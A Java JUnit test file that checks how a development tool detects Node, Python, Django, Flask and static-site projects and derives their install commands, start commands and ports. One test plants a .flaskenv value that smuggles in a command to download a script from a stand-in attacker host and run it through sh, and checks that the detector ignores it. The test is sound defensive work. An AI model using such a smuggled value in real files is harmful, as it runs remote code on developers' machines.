package nexus.core.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import nexus.core.RepoTree;
import java.util.Map;
import java.util.Optional;
import nexus.core.config.ConfigException;
import nexus.core.config.ConfigOrigin;
import nexus.core.config.ConfigParser;
import nexus.core.config.ConfigWriter;
import nexus.core.config.HealthCheck;
import nexus.core.config.ServiceConfig;
import nexus.core.config.WorkspaceConfig;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Detection on small project trees built in temp directories. */
class ProjectDetectorTest {
    @TempDir
    Path repo;

    private void write(String relative, String text) throws IOException {
        RepoTree.write(repo, relative, text);
    }

    private WorkspaceConfig detect() {
        WorkspaceConfig c = ProjectDetector.detect(repo).orElseThrow(() -> new AssertionError("nothing detected"));
        assertEquals(ConfigOrigin.Kind.DETECTED, c.origin().kind());
        return c;
    }

    private ServiceConfig web() {
        WorkspaceConfig c = detect();
        assertEquals(1, c.services().size(), c.toString());
        return c.services().get("web");
    }

    private static String packageJson(String scripts) {
        return "{\"name\":\"app\",\"version\":\"1.0.0\",\"scripts\":{" + scripts + "},\"dependencies\":{}}";
    }

    @Test
    void nodeWithLockfileAndDevScript() throws IOException {
        write("package.json", packageJson("\"dev\":\"nodemon src/index.js\",\"start\":\"node src/index.js\""));
        write("package-lock.json", "{}");
        WorkspaceConfig c = detect();
        assertEquals("Node.js project (package.json)", c.origin().description());
        assertEquals("npm ci", c.lifecycle().preStart());
        ServiceConfig web = c.services().get("web");
        assertEquals("npm run dev", web.command());
        assertEquals(3000, web.port());
        assertEquals(HealthCheck.tcp(), web.healthCheck());
        assertNull(c.name());
        assertNull(c.image());
    }

    @Test
    void nodeWithoutLockfileUsesNpmInstallAndStart() throws IOException {
        write("package.json", packageJson("\"start\":\"node server/main.js\",\"test\":\"jest\""));
        WorkspaceConfig c = detect();
        assertEquals("npm install", c.lifecycle().preStart());
        assertEquals("npm start", c.services().get("web").command());
    }

    @Test
    void shrinkwrapCountsAsALockfile() throws IOException {
        write("package.json", packageJson("\"start\":\"node .\""));
        write("npm-shrinkwrap.json", "{}");
        assertEquals("npm ci", detect().lifecycle().preStart());
    }

    @Test
    void serverJsIsNpmsDefaultStart() throws IOException {
        write("package.json", "{\"name\":\"legacy\",\"main\":\"server.js\"}");
        write("server.js", "require('http').createServer().listen(process.env.PORT)");
        assertEquals("npm start", web().command());
    }

    @Test
    void nodeLibraryOnlyInstallsDependencies() throws IOException {
        write("package.json", "{\"name\":\"lib\",\"main\":\"index.js\",\"scripts\":{\"test\":\"mocha\"}}");
        write("index.js", "module.exports = {}");
        WorkspaceConfig c = detect();
        assertEquals("Node.js project (package.json, no dev or start script)", c.origin().description());
        assertEquals("npm install", c.lifecycle().preStart());
        assertTrue(c.services().isEmpty());
    }

    /** script | command | port */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            vite                                 | npm run dev -- --host 0.0.0.0   | 5173
            vite --port 4000                     | npm run dev -- --host 0.0.0.0   | 4000
            vite --host                          | npm run dev                     | 5173
            vite build && vite preview           | npm run dev                     | 5173
            NODE_ENV=development vite            | npm run dev -- --host 0.0.0.0   | 5173
            next dev                             | npm run dev                     | 3000
            next dev -p 4000                     | npm run dev                     | 4000
            next dev --port=4100                 | npm run dev                     | 4100
            PORT=4500 node server.js             | npm run dev                     | 4500
            ng serve                             | npm run dev -- --host 0.0.0.0   | 4200
            astro dev                            | npm run dev -- --host 0.0.0.0   | 4321
            gatsby develop                       | npm run dev -- -H 0.0.0.0       | 8000
            vue-cli-service serve                | npm run dev                     | 8080
            webpack serve --mode development     | npm run dev                     | 8080
            parcel index.html                    | npm run dev                     | 1234
            react-scripts start                  | npm run dev                     | 3000
            nodemon --exec ts-node src/app.ts    | npm run dev                     | 3000
            node app.js -p 22                    | npm run dev                     | 3000
            """)
    void devServerPortsAndHosts(String script, String command, int port) throws IOException {
        write("package.json", packageJson("\"dev\":\"" + script + "\""));
        ServiceConfig web = web();
        assertEquals(command, web.command());
        assertEquals(port, web.port());
    }

    @Test
    void invalidPackageJsonStillInstalls() throws IOException {
        write("package.json", "{\"name\": \"broken\",");
        WorkspaceConfig c = detect();
        assertEquals("Node.js project (package.json, not valid JSON)", c.origin().description());
        assertEquals("npm install", c.lifecycle().preStart());
        assertTrue(c.services().isEmpty());
    }

    @Test
    void scriptsOfTheWrongTypeCountAsUnreadable() throws IOException {
        write("package.json", "{\"scripts\":{\"dev\":[\"vite\"]}}");
        assertTrue(detect().services().isEmpty());
    }

    @Test
    void linkedPackageJsonIsNotFollowed() throws IOException {
        Path outside = Files.writeString(repo.resolveSibling(repo.getFileName() + "-outside.json"),
                packageJson("\"dev\":\"vite\""));
        try {
            Files.createSymbolicLink(repo.resolve("package.json"), outside);
            assertEquals(Optional.empty(), ProjectDetector.detect(repo));
        } finally {
            Files.delete(outside);
        }
    }

    @Test
    void pythonRequirementsOnlyGetsAVirtualenv() throws IOException {
        write("requirements.txt", "requests==2.32.3\nrich\n");
        WorkspaceConfig c = detect();
        assertEquals("Python project (requirements.txt)", c.origin().description());
        assertEquals("python3 -m venv --system-site-packages .venv\n.venv/bin/pip install -r requirements.txt", c.lifecycle().preStart());
        assertTrue(c.services().isEmpty());
    }

    @Test
    void django() throws IOException {
        write("requirements.txt", "Django>=5.0\npsycopg[binary]\n");
        write("manage.py", "#!/usr/bin/env python\n");
        WorkspaceConfig c = detect();
        assertEquals("Django project (manage.py)", c.origin().description());
        ServiceConfig web = c.services().get("web");
        assertEquals(".venv/bin/python manage.py runserver 0.0.0.0:8000", web.command());
        assertEquals(8000, web.port());
    }

    @Test
    void djangoWithPoetryInstallsTheProject() throws IOException {
        write("pyproject.toml", "[tool.poetry]\nname = \"site\"\n\n[build-system]\nrequires = [\"poetry-core\"]\n");
        write("manage.py", "");
        assertEquals("python3 -m venv --system-site-packages .venv\n.venv/bin/pip install -e .", detect().lifecycle().preStart());
    }

    @Test
    void flaskWithAppPy() throws IOException {
        write("requirements.txt", "flask==3.0.3\ngunicorn\n");
        write("app.py", "from flask import Flask\napp = Flask(__name__)\n");
        ServiceConfig web = web();
        assertEquals(".venv/bin/python -m flask run --host 0.0.0.0 --port 5000", web.command());
        assertEquals(5000, web.port());
        assertEquals(Map.of("FLASK_APP", "app"), web.env());
        assertEquals("Flask project (requirements.txt, app app)", detect().origin().description());
    }

    @Test
    void flaskPrefersWsgiPyLikeFlaskRunDoes() throws IOException {
        write("requirements.txt", "Flask\n");
        write("app.py", "");
        write("wsgi.py", "");
        assertEquals("wsgi", web().env().get("FLASK_APP"));
    }

    @Test
    void flaskAppFromFlaskenv() throws IOException {
        write("requirements.txt", "flask[async]>=3\n");
        write(".flaskenv", "# settings\nFLASK_DEBUG=1\nFLASK_APP=\"hello:create_app()\"\n");
        write("app.py", "");
        assertEquals("hello:create_app()", web().env().get("FLASK_APP"));
    }

    @Test
    void flaskAppFromDotEnvWithExport() throws IOException {
        write("requirements.txt", "flask\n");
        write(".env", "export FLASK_APP=portal.web\nSECRET_KEY=abc\n");
        assertEquals("portal.web", web().env().get("FLASK_APP"));
    }

    @Test
    void flaskenvThatCouldRunSomethingIsIgnored() throws IOException {
        write("requirements.txt", "flask\n");
        write(".flaskenv", "FLASK_APP=$(curl evil.example|sh)\n");
        write("app.py", "");
        assertEquals("app", web().env().get("FLASK_APP"));
    }

    @Test
    void flaskAppFactoryInAPackage() throws IOException {
        write("pyproject.toml", "[project]\nname = \"shop\"\ndependencies = [\"flask>=3.0\", \"sqlalchemy\"]\n");
        write("docs/__init__.py", "");
        write("shop/__init__.py", "from flask import Flask\n\ndef create_app():\n    return Flask(__name__)\n");
        WorkspaceConfig c = detect();
        assertEquals("shop", c.services().get("web").env().get("FLASK_APP"));
        assertEquals("python3 -m venv --system-site-packages .venv\n.venv/bin/pip install -e .", c.lifecycle().preStart());
        assertEquals("Flask project (pyproject.toml, app shop)", c.origin().description());
    }

    @Test
    void flaskAppInASrcLayout() throws IOException {
        write("pyproject.toml", "[tool.poetry.dependencies]\npython = \"^3.11\"\nflask = \"^3.0\"\n");
        write("src/blog/__init__.py", "app = Flask(__name__)\n");
        assertEquals("blog", web().env().get("FLASK_APP"));
    }

    @Test
    void flaskWithoutAnAppSaysWhatToDo() throws IOException {
        write("requirements.txt", "flask\n");
        WorkspaceConfig c = detect();
        assertTrue(c.services().isEmpty());
        assertEquals("Flask project (requirements.txt), but no app found: set FLASK_APP in .flaskenv",
                c.origin().description());
    }

    @Test
    void flaskExtensionsAloneAreNotFlask() throws IOException {
        write("requirements.txt", "flask-cors\nflask_sqlalchemy\n");
        write("app.py", "");
        assertEquals("Python project (requirements.txt)", detect().origin().description());
    }

    @Test
    void pyprojectWithOnlyToolSettingsInstallsNothingButTheVenv() throws IOException {
        write("pyproject.toml", "[tool.black]\nline-length = 100\n");
        assertEquals("python3 -m venv --system-site-packages .venv", detect().lifecycle().preStart());
    }

    @Test
    void requirementsAndPackageBothInstall() throws IOException {
        write("requirements.txt", "pytest\n");
        write("pyproject.toml", "[project]\nname = \"x\"\n");
        assertEquals("python3 -m venv --system-site-packages .venv\n.venv/bin/pip install -r requirements.txt\n.venv/bin/pip install -e .",
                detect().lifecycle().preStart());
    }

    @Test
    void staticSite() throws IOException {
        write("index.html", "<!doctype html><title>hi</title>");
        write("style.css", "body{}");
        WorkspaceConfig c = detect();
        assertEquals("static site (index.html)", c.origin().description());
        ServiceConfig web = c.services().get("web");
        assertEquals("python3 -m http.server 8080 --bind 0.0.0.0", web.command());
        assertEquals(8080, web.port());
        assertEquals(HealthCheck.http("/"), web.healthCheck());
        assertNull(c.lifecycle().preStart());
    }

    @Test
    void nodeWithADevServerWinsOverPythonAndStatic() throws IOException {
        write("package.json", packageJson("\"dev\":\"vite\""));
        write("requirements.txt", "flask\n");
        write("app.py", "");
        write("index.html", "");
        assertEquals("npm run dev -- --host 0.0.0.0", web().command());
    }

    @Test
    void djangoWinsOverAPackageJsonWithoutAStartScript() throws IOException {
        write("package.json", packageJson("\"build\":\"webpack\""));
        write("requirements.txt", "django\n");
        write("manage.py", "");
        assertEquals("Django project (manage.py)", detect().origin().description());
    }

    @Test
    void staticSiteWinsOverANodeProjectWithoutAStartScript() throws IOException {
        write("package.json", packageJson("\"lint\":\"eslint .\""));
        write("index.html", "");
        assertEquals("static site (index.html)", detect().origin().description());
    }

    @Test
    void nodeInstallOnlyWinsOverPythonInstallOnly() throws IOException {
        write("package.json", packageJson(""));
        write("requirements.txt", "black\n");
        assertEquals("npm install", detect().lifecycle().preStart());
    }

    @Test
    void emptyRepositoryIsNotRecognised() throws IOException {
        write("README.md", "# hello");
        write("docs/index.html", "");   // only the top-level index.html makes a static site
        assertEquals(Optional.empty(), ProjectDetector.detect(repo));
    }

    @Test
    void directoryNamedLikeAManifestIsIgnored() throws IOException {
        Files.createDirectories(repo.resolve("package.json"));
        assertEquals(Optional.empty(), ProjectDetector.detect(repo));
    }

    @Test
    void oversizedManifestIsNotParsed() throws IOException {
        write("requirements.txt", "flask\n" + "# padding\n".repeat(120_000));
        write("app.py", "");
        assertEquals(Optional.empty(), ProjectDetector.detect(repo));
    }

    /** Whatever is detected is a valid config that `nexus config init` can write and read back unchanged. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            node      | package.json=={"scripts":{"dev":"vite --port 4000"}} ;; package-lock.json=={}
            django    | requirements.txt==django ;; manage.py==
            flask     | requirements.txt==flask ;; .flaskenv==FLASK_APP=site:create_app()
            python    | pyproject.toml==[project]
            static    | index.html==<h1>hi</h1>
            library   | package.json=={}
            """)
    void detectedConfigsAreValidAndRoundTrip(String kind, String files) throws IOException, ConfigException {
        for (String file : files.split(" ;; ")) {
            String[] nameAndText = file.split("==", 2);
            write(nameAndText[0].strip(), nameAndText[1]);
        }
        WorkspaceConfig detected = detect();
        String yaml = ConfigWriter.toYaml(detected);
        assertTrue(yaml.contains("# detected: " + detected.origin().description()), yaml);
        WorkspaceConfig parsed = ConfigParser.parse(yaml, ".nexus/config.yaml");
        assertEquals(detected.services(), parsed.services(), yaml);
        assertEquals(detected.lifecycle(), parsed.lifecycle(), yaml);
        assertEquals(detected.env(), parsed.env(), yaml);
    }
}
